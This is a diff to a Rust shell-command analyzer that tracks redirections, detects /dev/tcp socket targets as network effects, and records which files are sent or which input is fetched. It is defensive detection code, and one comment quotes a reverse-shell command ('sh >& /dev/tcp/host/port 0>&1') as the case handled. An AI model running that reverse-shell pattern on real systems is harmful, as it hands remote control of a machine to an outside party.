@@ -62,13 +62,15 @@ impl Walk<'_> {
             "<<<" => out.input = text_stream(&Word { text: format!("{}\n", word.text), ..word }),
             "<" | "<>" => {
                 out.input = self.read_from(&word);
-                if op == "<>" && !is_device(&word) {
+                if op == "<>" && !is_device(&word) && socket_host(&word).is_none() {
                     let at = self.place(&word);
                     out.sinks.push(Sink { at, append: true, output: false });
                 }
             }
             // Copies of descriptors.
-            "<&" | "<&-" | ">&-" => {}
+            "<&" if word.is("0") => {}
+            "<&" => out.input = Stream::Unknown,
+            "<&-" | ">&-" => {}
             ">&" if is_descriptor(&word) => {}
             _ => self.sink(op, &word, fd, out),
         }
@@ -78,7 +80,12 @@ impl Walk<'_> {
         let output = matches!(fd, -1 | 1) || op.starts_with('&');
         out.hides_output |= output;
         if let Some(host) = socket_host(word) {
-            self.push(Effect::Network { host, sends: Vec::new(), upload: true });
+            let sends = out.input.files().to_vec();
+            self.push(Effect::Network { host, sends, upload: true });
+            // The other side may answer, as with `sh >& /dev/tcp/host/port 0>&1`.
+            if out.input == Stream::Absent {
+                out.input = Stream::Fetched;
+            }
             return;
         }
         if is_device(word) || word.stream.is_some() {
